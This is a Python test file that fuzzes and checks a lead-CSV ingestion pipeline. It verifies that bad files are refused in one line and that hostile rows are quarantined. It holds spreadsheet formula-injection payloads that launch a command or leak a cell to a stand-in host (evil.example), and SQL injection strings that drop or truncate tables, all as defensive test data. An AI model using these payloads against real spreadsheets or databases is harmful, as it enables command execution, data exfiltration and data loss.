"""Bad input: whatever bytes a lead file holds, ingestion never crashes.

Either the file is unusable as a whole (``LeadFileError``: ``enrich run`` exits 2
with a one-line message), or every row ends in ``raw_leads`` or in
``rejected_leads`` with a reason. Spreadsheet formulas never reach an output
table, and SQL in a value is data, never executed.
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
import random
import tempfile
from pathlib import Path

import duckdb
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from enrichment_assets.leads.ingest import LeadFileError, check_lead_file, ingest_lead_file
from enrichment_assets.storage.warehouse import ensure_schema
from enrichment_assets_tests.support.cli import no_traceback, prepare_env, run_enrich
from enrichment_assets_tests.support.files import lead_row, write_config
from enrichment_assets_tests.support.sandbox import WORLD, fast_sandbox_config
from enrichment_assets_tests.support.tables import query

FORMULAS = ["=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0",
            '=HYPERLINK("http://evil.example/?leak="&A1,"click")', "=1+1", "+1-1", "@A1"]
SQL = ["'); DROP TABLE raw_leads; --", "x'; DELETE FROM raw_leads WHERE '1'='1", "Robert'); DROP TABLE contacts;--",
       '"; TRUNCATE credit_ledger; --']
HEADERS = ["record_id", "id", "ID", "Record ID", "first_name", "First Name", "last_name", "LastName", "company",
           "Company Name", "website", "email", "Work Email", "linkedin", "LinkedIn URL", "country", "notes", "",
           "record_id"]
ENCODINGS = ["utf-8", "utf-8-sig", "latin-1", "cp1252", "utf-16", "utf-16-le"]
OUTPUT_FIELDS = ("record_id", "first_name", "last_name", "company", "email")

_people = WORLD.people[:50]
_good_values = [v for p in _people for v in lead_row("x", p)[1:]]

value = st.one_of(
    st.text(max_size=25),
    st.sampled_from(FORMULAS + SQL + _good_values + ["", " ", "\t", "\x00", "\x1b[2J", "\r", "\u2028", '"', "é"]),
    st.text(min_size=1001, max_size=1100),
    st.binary(max_size=20).map(lambda b: b.decode("latin-1")),
)


@st.composite
def lead_files(draw) -> bytes:
    kind = draw(st.sampled_from(["bytes", "csv", "csv", "csv"]))
    if kind == "bytes":
        return draw(st.binary(max_size=400))
    header = draw(st.lists(st.sampled_from(HEADERS), min_size=1, max_size=8))
    if draw(st.booleans()):
        header = ["record_id", *header]
    rows = draw(st.lists(st.lists(value, min_size=0, max_size=len(header) + 2), max_size=12))
    default_delimiter = draw(st.sampled_from([",", ";", "\t", "|"]))
    out = io.StringIO()
    csv.writer(out, delimiter=default_delimiter, lineterminator="\r\n").writerow(header)
    for row in rows:
        delimiter = default_delimiter if draw(st.booleans()) else draw(st.sampled_from([",", ";", "\t", "|"]))
        csv.writer(out, delimiter=delimiter, lineterminator=draw(st.sampled_from(["\r\n", "\n"]))).writerow(row)
    encoding = draw(st.sampled_from(ENCODINGS))
    return out.getvalue().encode(encoding, errors="replace")


@contextlib.contextmanager
def _memory_warehouse():
    conn = duckdb.connect(":memory:")
    ensure_schema(conn)
    try:
        yield conn
    finally:
        pass  # kept open: the caller inspects it


def ingest_bytes(data: bytes, name: str = "fuzz.csv") -> tuple[duckdb.DuckDBPyConnection | None, str | None]:
    """Ingest ``data`` as a lead file: (connection with the tables, None) or (None, the LeadFileError message)."""
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / name
        path.write_bytes(data)
        try:
            check_lead_file(path)
        except LeadFileError as exc:
            return None, str(exc)
        conn = duckdb.connect(":memory:")
        ensure_schema(conn)

        @contextlib.contextmanager
        def factory():
            yield conn

        summary = ingest_lead_file(factory, path, "fuzz")
        leads = conn.execute("SELECT count(*) FROM raw_leads").fetchone()[0]
        rejected = conn.execute("SELECT count(*) FROM rejected_leads").fetchone()[0]
        assert (summary.leads, summary.rejected) == (leads, rejected)
        assert leads + rejected == summary.rows_read, "every row read is a lead or a rejected row"
        return conn, None


def assert_one_line(message: str) -> None:
    assert message.strip(), "a file error says what is wrong"
    assert len(message.splitlines()) == 1, repr(message)
    assert "\x1b" not in message, repr(message)


def assert_clean_tables(conn: duckdb.DuckDBPyConnection) -> None:
    for (reason,) in conn.execute("SELECT reason FROM rejected_leads").fetchall():
        assert reason and reason.strip(), "a rejected row always has a reason"
    rows = conn.execute(f"SELECT {', '.join(OUTPUT_FIELDS)} FROM raw_leads").fetchall()
    ids = [r[0] for r in rows]
    assert len(ids) == len(set(ids)), "record_id is unique in raw_leads"
    for row in rows:
        assert row[0], "a lead has a record_id"
        for name, v in zip(OUTPUT_FIELDS, row, strict=True):
            if v is None:
                continue
            signed_number = name == "record_id" and v.lstrip("+-").replace(".", "", 1).isdigit()
            assert v == v.strip() and (v[0] not in "=+-@" or signed_number), f"{name}={v!r} looks like a formula"
            assert v.isprintable(), f"{name}={v!r} has control characters or undecodable bytes"


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
@given(lead_files())
@example(b"")
@example(b"\n\n\n")
@example(b"record_id,email\r\n")
@example(b"record_id;first_name;last_name;company\n1;=cmd|' /C calc'!A0;x;y\n")
@example(b"id,email\n=cmd|' /C calc'!A0,a@b.io\n")
@example(b"id,email\n@SUM(1+9)*cmd|' /C calc'!A0,a@b.io\n")
@example(b"id,email\n1,=1+2@b.io\n")
@example("id,first_name,last_name,company\n1,Zoë,Müller,Ünïcode GmbH\n".encode("latin-1"))
@example("id,first_name,last_name,company\n1,Zoë,Müller,Acme\n".encode("utf-16"))
@example(b"\xff\xfe\x00\x00garbage")
@example(b"record_id\x1b[2J\x0c,name\n1,x\n")
@example(b"id\n" + b"1\n" * 50)
def test_any_lead_file_is_ingested_or_refused_in_one_line(data: bytes) -> None:
    conn, error = ingest_bytes(data)
    if error is not None:  # refused as a whole: one line says why, nothing was loaded
        assert_one_line(error)
        assert conn is None
    else:
        assert_clean_tables(conn)


@pytest.mark.parametrize("formula", FORMULAS)
@pytest.mark.parametrize("column", ["record_id", "first_name", "last_name", "company", "email", "website",
                                    "linkedin", "country"])
def test_formula_in_any_column_is_quarantined(column: str, formula: str) -> None:
    person = WORLD.people[0]
    row = dict(zip(["record_id", "first_name", "last_name", "company", "website", "email", "linkedin", "country"],
                   lead_row("R1", person), strict=True))
    row[column] = formula
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(row))
    writer.writeheader()
    writer.writerow(row)
    conn, error = ingest_bytes(out.getvalue().encode())
    assert error is None
    assert conn.execute("SELECT count(*) FROM raw_leads").fetchone()[0] == 0
    ((reason, raw),) = conn.execute("SELECT reason, raw FROM rejected_leads").fetchall()
    assert column.replace("website", "domain").replace("linkedin", "linkedin_url") in reason, reason
    assert json.loads(raw)[column] == formula  # the raw row is kept for the user to fix


def test_ten_thousand_duplicate_ids_keep_the_first() -> None:
    person = WORLD.people[1]
    lines = ["id,first_name,last_name,company,email"]
    lines += [f"DUP-1,{person.first_name},{person.last_name},{person.company},{person.work_email}"] * 10_000
    conn, error = ingest_bytes("\n".join(lines).encode())
    assert error is None
    assert conn.execute("SELECT record_id, email FROM raw_leads").fetchall() == [("DUP-1", person.work_email)]
    reasons = conn.execute("SELECT reason, count(*) FROM rejected_leads GROUP BY 1").fetchall()
    assert reasons == [("duplicate record_id (first seen on row 2)", 9_999)]


def test_huge_fields_are_rejected_not_loaded() -> None:
    huge = "x" * 2_000_000
    data = f"id,first_name,last_name,company\n1,{huge},Doe,Acme\n2,Jane,Doe,Acme\n".encode()
    conn, error = ingest_bytes(data)
    assert error is None
    assert conn.execute("SELECT record_id FROM raw_leads").fetchall() == [("2",)]
    ((reason, raw),) = conn.execute("SELECT reason, raw FROM rejected_leads").fetchall()
    assert "first_name is longer than 1000 characters" in reason
    assert len(raw) <= 2_000


def test_sql_in_values_is_stored_verbatim_and_never_executed() -> None:
    person = WORLD.people[2]
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["id", "first_name", "last_name", "company", "email"])
    writer.writerow(["1'); DROP TABLE raw_leads; --", "Robert'); DROP TABLE contacts;--", "Tables",
                     "'); DROP TABLE raw_leads; --", person.work_email])
    conn, error = ingest_bytes(out.getvalue().encode())
    assert error is None
    rows = conn.execute("SELECT record_id, first_name, company FROM raw_leads").fetchall()
    assert rows == [("1'); DROP TABLE raw_leads; --", "Robert'); DROP TABLE contacts;--",
                     "'); DROP TABLE raw_leads; --")]
    tables = {r[0] for r in conn.execute("SELECT table_name FROM information_schema.tables").fetchall()}
    assert {"raw_leads", "contacts", "rejected_leads", "credit_ledger"} <= tables


# --------------------------------------------------------------------------- the real CLI

UNUSABLE = {
    "empty.csv": b"",
    "blank_lines.csv": b"\r\n\r\n  \r\n",
    "random.csv": random.Random(4).randbytes(3000),
    # UTF-16 without its BOM is not text we read (Excel's "Unicode Text" always writes the BOM).
    "utf16_no_bom.csv": "record_id,first_name\r\n1,Zoë\r\n".encode("utf-16-le"),
    "image.csv": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)),
    "no_id.csv": b"name,email\nA,a@b.io\n",
    "escape.csv": b"name\x1b[31m,email\x0c\nA,a@b.io\n",
}


@pytest.mark.parametrize("name", sorted(UNUSABLE))
def test_cli_refuses_unusable_files_with_exit_2_and_one_line(name: str, cli_env: dict[str, str],
                                                             tmp_path: Path) -> None:
    path = tmp_path / name
    path.write_bytes(UNUSABLE[name])
    result = run_enrich(["run", str(path)], cli_env, timeout=60)
    assert result.returncode == 2, (result.returncode, result.stdout[-1000:], result.stderr[-2000:])
    assert no_traceback(result.stderr + result.stdout)
    assert_one_line(result.stderr)
    assert result.stderr.startswith("enrich: ") and name in result.stderr


@pytest.mark.e2e
def test_cli_run_on_a_hostile_file_quarantines_and_enriches_the_rest(cli_env: dict[str, str], tmp_path: Path,
                                                                     make_sandbox) -> None:
    """Formulas, SQL, a latin-1 row, a huge field, a mixed-delimiter row and 10,000 duplicates in one file.

    The file is ASCII but for its latin-1 row, so it is a valid Windows-1252 file: that row loads as written."""
    sandbox = make_sandbox(fast_sandbox_config())
    config = write_config(tmp_path / "enrichment.yaml")
    env = prepare_env(cli_env, sandbox, config)
    good = [WORLD.people[i] for i in range(10, 14)]
    header = "record_id,first_name,last_name,company,website,email,linkedin_url,country"
    body = [",".join(lead_row(f"G{i}", p)) for i, p in enumerate(good)]
    body.append(",".join(lead_row("F1", WORLD.people[20])).replace(WORLD.people[20].first_name, "=cmd|' /C calc'!A0"))
    body.append("=cmd|' /C calc'!A0,Ann,Lee,Acme,acme.io,,,US")
    body.append("S1,Bobby,Tables,\"'); DROP TABLE raw_leads; --\",,bobby@tables.example,,US")
    body.append("H1,Jane,Doe," + "y" * 5_000 + ",,jane@doe.example,,")
    body.append("M1;Mixed;Delims;Acme;acme.io;m@acme.io;;US,extra,fields,here,and,more,than,the,header")
    body += ["DUP,Dup,Licate,Dupco,dupco.example,dup@dupco.example,,US"] * 10_000
    data = ("\r\n".join([header, *body]) + "\r\n").encode()
    data += "L1,Zoë,Müller,Ünïcode GmbH,unicode.example,zoe@unicode.example,,DE\r\n".encode("latin-1")
    path = tmp_path / "hostile.csv"
    path.write_bytes(data)

    result = run_enrich(["run", str(path)], env)
    output = result.stdout + result.stderr
    assert result.returncode == 0, output[-4000:]
    assert no_traceback(output)
    db = env["ENRICHMENT_DB"]
    leads = dict(query(db, "SELECT record_id, company FROM raw_leads"))
    assert set(leads) == {"G0", "G1", "G2", "G3", "S1", "DUP", "L1"}
    assert leads["L1"] == "Ünïcode GmbH"
    assert leads["S1"] == "'); DROP TABLE raw_leads; --"
    reasons = dict(query(db, "SELECT record_id, reason FROM rejected_leads WHERE record_id <> 'DUP'"))
    assert reasons == {
        "F1": "first_name looks like a spreadsheet formula",
        "=cmd|' /C calc'!A0": "record_id looks like a spreadsheet formula",
        "H1": "company is longer than 1000 characters",
        "M1;Mixed;Delims;Acme;acme.io;m@acme.io;;US":
            "row has 9 fields but the header has 8 (mixed delimiters or unquoted commas?)",
    }, reasons
    assert query(db, "SELECT count(*) FROM rejected_leads WHERE record_id = 'DUP'")[0][0] == 9_999
    assert query(db, "SELECT count(*) FROM contacts")[0][0] == 7
    assert f"7 leads, {4 + 9_999} rejected" in " ".join(result.stdout.split())
